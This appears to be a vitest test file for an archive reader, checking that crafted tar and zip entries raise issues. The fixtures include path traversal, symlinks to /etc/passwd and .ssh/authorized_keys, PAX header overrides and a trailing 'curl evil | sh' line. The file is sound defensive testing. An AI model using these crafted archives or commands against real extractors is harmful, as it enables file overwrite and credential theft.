import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { TreeEntry } from '../../src/model/tree.js'
import { openArtifact, type ArchiveIssue } from '../../src/sources/archive/index.js'
import { blocks, buildZip, byPath, END_OF_ARCHIVE, fileEntry, packTar, paxData, rawHeader, scratch, write } from './fixtures.js'

let dir: string
let cleanup: () => Promise<void>
beforeAll(async () => ({ dir, cleanup } = await scratch('hostile')))
afterAll(() => cleanup())

let counter = 0
async function read(bytes: Buffer, extension = 'tar'): Promise<{ entries: Map<string, TreeEntry>; issues: ArchiveIssue[]; truncated: boolean }> {
  const file = join(dir, `case-${++counter}.${extension}`)
  await write(file, bytes)
  const tree = await openArtifact(file)
  const entries = await byPath(tree)
  return { entries, issues: tree.issues, truncated: tree.truncated() }
}

const issue = (issues: readonly ArchiveIssue[], code: ArchiveIssue['code']) => issues.filter((i) => i.code === code)

/** A PAX extended header for the next entry. */
const paxHeader = (records: Record<string, string>, type = 'x'): Buffer => {
  const data = paxData(records)
  return Buffer.concat([rawHeader({ name: 'PaxHeaders/entry', size: data.length, type }), blocks(data)])
}

describe('hostile tar entries are issues, and the rest is read', () => {
  it('paths that climb out or are absolute are refused', async () => {
    const { entries, issues } = await read(
      await packTar([
        { name: 'pkg/', type: 'directory' },
        { name: 'pkg/before.txt', body: 'before' },
        { name: 'pkg/../../escape.txt', body: 'x' },
        { name: 'pkg/a/../b.txt', body: 'normalises inside, still refused' },
        { name: '/etc/cron.d/evil', body: 'x' },
        { name: 'C:/windows/evil', body: 'x' },
        { name: 'pkg/after.txt', body: 'after' },
      ]),
    )
    expect(issue(issues, 'ARCHIVE_PATH_TRAVERSAL').map((i) => [i.path, i.severity])).toEqual([
      ['pkg/../../escape.txt', 'critical'],
      ['pkg/a/../b.txt', 'critical'],
    ])
    expect(issue(issues, 'ARCHIVE_ABSOLUTE_PATH').map((i) => [i.path, i.severity])).toEqual([
      ['/etc/cron.d/evil', 'critical'],
      ['C:/windows/evil', 'critical'],
    ])
    expect([...entries.keys()]).toEqual(['before.txt', 'after.txt'])
  })

  it('symlinks pointing outside are yielded as links, with a critical issue', async () => {
    const { entries, issues } = await read(
      await packTar([
        { name: 'pkg/ok.txt', body: 'fine' },
        { name: 'pkg/sub/inside', type: 'symlink', linkname: '../ok.txt' },
        { name: 'pkg/up', type: 'symlink', linkname: '../../../home/user/.ssh/authorized_keys' },
        { name: 'pkg/abs', type: 'symlink', linkname: '/etc/passwd' },
        { name: 'pkg/parent', type: 'symlink', linkname: '..' },
        { name: 'pkg/chained', type: 'symlink', linkname: 'parent/secret' },
        { name: 'pkg/last.txt', body: 'still read' },
      ]),
    )
    expect(issue(issues, 'ARCHIVE_LINK_ESCAPE').map((i) => [i.path, i.severity])).toEqual([
      ['up', 'critical'],
      ['abs', 'critical'],
      ['parent', 'critical'],
      ['chained', 'critical'],
    ])
    expect(entries.get('abs')).toMatchObject({ kind: 'symlink', linkTarget: '/etc/passwd' })
    expect(entries.get('sub/inside')).toMatchObject({ kind: 'symlink', linkTarget: '../ok.txt' })
    expect(entries.get('last.txt')?.content?.toString()).toBe('still read')
  })

  it('an entry written through a symlink is refused', async () => {
    const { entries, issues } = await read(
      await packTar([
        { name: 'pkg/etc', type: 'symlink', linkname: '/etc' },
        { name: 'pkg/etc/cron.d/evil', body: 'x' },
        { name: 'pkg/docs', type: 'symlink', linkname: 'doc' },
        { name: 'pkg/docs/index.html', body: 'y' },
        { name: 'pkg/fine.txt', body: 'z' },
      ]),
    )
    expect(issue(issues, 'ARCHIVE_PATH_TRAVERSAL').map((i) => [i.path, i.severity])).toEqual([
      ['pkg/etc/cron.d/evil', 'critical'],
      ['pkg/docs/index.html', 'high'],
    ])
    expect([...entries.keys()].sort()).toEqual(['docs', 'etc', 'fine.txt'])
  })

  it('hardlinks out of the tree are critical, to an unseen path high; both yielded', async () => {
    const { entries, issues } = await read(
      await packTar([
        { name: 'pkg/real.txt', body: 'real' },
        { name: 'pkg/good', type: 'link', linkname: 'pkg/real.txt' },
        { name: 'pkg/escape', type: 'link', linkname: '../outside' },
        { name: 'pkg/absolute', type: 'link', linkname: '/etc/shadow' },
        { name: 'pkg/early', type: 'link', linkname: 'pkg/later.txt' },
        { name: 'pkg/later.txt', body: 'later' },
      ]),
    )
    expect(issue(issues, 'ARCHIVE_LINK_ESCAPE').map((i) => [i.path, i.severity])).toEqual([
      ['escape', 'critical'],
      ['absolute', 'critical'],
      ['early', 'high'],
    ])
    expect(entries.get('good')).toMatchObject({ kind: 'hardlink', linkTarget: 'real.txt', gitBlob: entries.get('real.txt')?.gitBlob })
    expect(entries.get('escape')).toMatchObject({ kind: 'hardlink', linkTarget: '../outside' })
    expect(entries.get('later.txt')?.content?.toString()).toBe('later')
  })

  it('devices and fifos are yielded with their kind and a high issue', async () => {
    const { entries, issues } = await read(
      await packTar([
        { name: 'pkg/tty', type: 'character-device' },
        { name: 'pkg/disk', type: 'block-device' },
        { name: 'pkg/pipe', type: 'fifo' },
        { name: 'pkg/after', body: 'a' },
      ]),
    )
    expect(issue(issues, 'ARCHIVE_DEVICE').map((i) => [i.path, i.severity])).toEqual([
      ['tty', 'high'],
      ['disk', 'high'],
      ['pipe', 'high'],
    ])
    expect(entries.get('tty')?.kind).toBe('device')
    expect(entries.get('pipe')?.kind).toBe('fifo')
    expect(entries.has('after')).toBe(true)
  })

  it('a duplicate path: both yielded, the later one last, with a high issue', async () => {
    const file = await packTar([
      { name: 'pkg/configure', body: 'original' },
      { name: 'pkg/other', body: 'o' },
      { name: 'pkg/configure', body: 'replacement' },
    ])
    await write(join(dir, 'dup.tar'), file)
    const tree = await openArtifact(join(dir, 'dup.tar'))
    const list: TreeEntry[] = []
    for await (const e of tree.entries()) list.push(e)
    expect(list.filter((e) => e.path === 'configure').map((e) => e.content?.toString())).toEqual(['original', 'replacement'])
    expect(tree.issues.map((i) => [i.code, i.path, i.severity])).toEqual([['ARCHIVE_DUPLICATE_PATH', 'configure', 'high']])
  })

  it('a path listed twice with the same bytes is low, whatever the modes; same size but other bytes stays high', async () => {
    const file = await packTar([
      { name: 'pkg/cbits/a.c', body: 'int a;\n', mode: 0o644 },
      { name: 'pkg/cbits/b.c', body: 'int b;\n' },
      { name: 'pkg/cbits/a.c', body: 'int a;\n', mode: 0o755 },
      { name: 'pkg/cbits/b.c', body: 'int c;\n' },
    ])
    await write(join(dir, 'twice.tar'), file)
    const tree = await openArtifact(join(dir, 'twice.tar'))
    for await (const _ of tree.entries()) void _
    expect(tree.issues.map((i) => [i.path, i.severity])).toEqual([
      ['cbits/a.c', 'low'],
      ['cbits/b.c', 'high'],
    ])
  })

  it('names with a NUL byte or a backslash are refused', async () => {
    const { entries, issues } = await read(
      Buffer.concat([
        fileEntry('pkg/a.txt', 'a'),
        paxHeader({ path: 'pkg/nul\0hidden' }),
        fileEntry('pkg/plain', 'n'),
        fileEntry('pkg\\..\\..\\evil', 'b'),
        fileEntry('pkg/z.txt', 'z'),
        END_OF_ARCHIVE,
      ]),
    )
    expect(issue(issues, 'ARCHIVE_BAD_NAME').map((i) => i.severity)).toEqual(['high', 'high'])
    expect([...entries.keys()]).toEqual(['a.txt', 'z.txt'])
  })
})

describe('PAX and GNU headers that change an entry behind the plain header', () => {
  it('a PAX path override is reported with both names; the PAX name is used', async () => {
    const { entries, issues } = await read(await packTar([{ name: 'pkg/README', body: 'r' }, { name: 'pkg/short', body: 'p', pax: { path: 'pkg/other-name' } }, { name: 'pkg/end', body: 'e' }]))
    const found = issue(issues, 'ARCHIVE_PAX_OVERRIDE')
    expect(found.map((i) => [i.path, i.severity])).toEqual([['pkg/other-name', 'medium']])
    // tar-stream's packer stores the placeholder name "PaxHeader" in the plain header
    expect(found[0]?.detail).toContain('"PaxHeader"')
    expect(found[0]?.detail).toContain('"pkg/other-name"')
    expect(entries.get('other-name')?.content?.toString()).toBe('p')
    expect(entries.has('end')).toBe(true)
  })

  it('a PAX size override is reported; the data is framed by the PAX size', async () => {
    const { entries, issues } = await read(
      Buffer.concat([fileEntry('pkg/first', '1'), paxHeader({ size: '8' }), rawHeader({ name: 'pkg/sized', size: 4 }), blocks('12345678'), fileEntry('pkg/next', 'n'), END_OF_ARCHIVE]),
    )
    const found = issue(issues, 'ARCHIVE_PAX_OVERRIDE')
    expect(found).toHaveLength(1)
    expect(found[0]?.detail).toMatch(/size: stored as 4, read as 8/)
    expect(entries.get('sized')?.content?.toString()).toBe('12345678')
    expect(entries.get('next')?.content?.toString()).toBe('n')
  })

  it('a PAX linkpath override that points outside is both an override and an escape', async () => {
    const { issues } = await read(Buffer.concat([fileEntry('pkg/a', 'a'), paxHeader({ linkpath: '/etc/passwd' }), rawHeader({ name: 'pkg/link', type: '2', linkname: 'a' }), END_OF_ARCHIVE]))
    expect(issue(issues, 'ARCHIVE_PAX_OVERRIDE')[0]?.detail).toContain('/etc/passwd')
    expect(issue(issues, 'ARCHIVE_LINK_ESCAPE').map((i) => i.path)).toEqual(['link'])
  })

  it('a PAX path that hides a traversal in the plain header reports the plain name too', async () => {
    const { entries, issues } = await read(Buffer.concat([fileEntry('pkg/a', 'a'), paxHeader({ path: 'pkg/harmless' }), fileEntry('../../../tmp/evil', 'x'), END_OF_ARCHIVE]))
    expect(issue(issues, 'ARCHIVE_PATH_TRAVERSAL').map((i) => i.path)).toEqual(['../../../tmp/evil'])
    expect(issue(issues, 'ARCHIVE_PAX_OVERRIDE')).toHaveLength(1)
    expect(entries.has('harmless')).toBe(true)
  })

  it('a global PAX header that sets a path is reported', async () => {
    const { issues } = await read(Buffer.concat([paxHeader({ path: 'pkg/everything' }, 'g'), fileEntry('pkg/a', 'a'), END_OF_ARCHIVE]))
    expect(issue(issues, 'ARCHIVE_PAX_OVERRIDE').map((i) => [i.path, i.severity])).toEqual([['', 'medium']])
  })

  it('a GNU long name that was not needed is reported like a PAX override', async () => {
    const longName = Buffer.from('pkg/real-name\0')
    const { entries, issues } = await read(
      Buffer.concat([fileEntry('pkg/a', 'a'), rawHeader({ name: '././@LongLink', type: 'L', size: longName.length }), blocks(longName), fileEntry('pkg/decoy', 'd'), END_OF_ARCHIVE]),
    )
    expect(issue(issues, 'ARCHIVE_PAX_OVERRIDE')[0]?.detail).toContain('pkg/decoy')
    expect(entries.get('real-name')?.content?.toString()).toBe('d')
  })
})

describe('data after the end of the archive', () => {
  it('garbage after the end-of-archive marker is a medium issue; every entry is read', async () => {
    const tar = await packTar([{ name: 'pkg/a', body: 'a' }, { name: 'pkg/b', body: 'b' }])
    const { entries, issues, truncated } = await read(Buffer.concat([tar, Buffer.from('#!/bin/sh\ncurl evil | sh\n')]))
    expect(issues.map((i) => [i.code, i.severity])).toEqual([['ARCHIVE_TRAILING_DATA', 'medium']])
    expect([...entries.keys()]).toEqual(['a', 'b'])
    expect(truncated).toBe(false)
  })

  it('a second archive appended after the end is reported, and its entries are not read', async () => {
    const first = await packTar([{ name: 'pkg/a', body: 'a' }])
    const second = await packTar([{ name: 'pkg/hidden.sh', body: 'payload' }])
    const { entries, issues } = await read(Buffer.concat([first, second]))
    const trailing = issue(issues, 'ARCHIVE_TRAILING_DATA')
    expect(trailing).toHaveLength(1)
    expect(trailing[0]?.detail).toContain('pkg/hidden.sh')
    expect([...entries.keys()]).toEqual(['a'])
  })

  it('a lone zero block between entries is skipped, as extractors do', async () => {
    const { entries, issues } = await read(Buffer.concat([fileEntry('pkg/a', 'a'), Buffer.alloc(512), fileEntry('pkg/b', 'b'), END_OF_ARCHIVE, Buffer.alloc(8192)]))
    expect([...entries.keys()]).toEqual(['a', 'b'])
    expect(issues).toEqual([])
  })
})

describe('hostile zip entries', () => {
  it('are issues like their tar counterparts, and the rest is read', async () => {
    const zip = buildZip([
      { name: 'pkg/', unixMode: 0o40755 },
      { name: 'pkg/ok.txt', data: 'fine' },
      { name: '../../evil.sh', data: 'x' },
      { name: '/etc/profile.d/evil.sh', data: 'x' },
      { name: 'pkg\\..\\evil', data: 'x' },
      { name: Buffer.from('pkg/nul\0.txt'), data: 'x' },
      { name: 'pkg/link', data: '../../../etc/passwd', unixMode: 0o120777 },
      { name: 'pkg/inside', data: 'ok.txt', unixMode: 0o120777 },
      { name: 'pkg/fifo', unixMode: 0o10644 },
      { name: 'pkg/ok.txt', data: 'second copy' },
      { name: 'pkg/run.sh', data: '#!/bin/sh\n', unixMode: 0o100755 },
    ])
    const { entries, issues } = await read(Buffer.concat([zip, Buffer.from('appended after the central directory')]), 'zip')
    expect(issues.map((i) => i.code).sort()).toEqual([
      'ARCHIVE_ABSOLUTE_PATH',
      'ARCHIVE_BAD_NAME',
      'ARCHIVE_BAD_NAME',
      'ARCHIVE_DEVICE',
      'ARCHIVE_DUPLICATE_PATH',
      'ARCHIVE_LINK_ESCAPE',
      'ARCHIVE_PATH_TRAVERSAL',
      'ARCHIVE_TRAILING_DATA',
    ])
    expect(entries.get('link')).toMatchObject({ kind: 'symlink', linkTarget: '../../../etc/passwd' })
    expect(entries.get('inside')).toMatchObject({ kind: 'symlink', linkTarget: 'ok.txt' })
    expect(entries.get('fifo')?.kind).toBe('fifo')
    expect(entries.get('ok.txt')?.content?.toString()).toBe('second copy')
    expect(entries.get('run.sh')?.mode).toBe(0o755)
  })
})
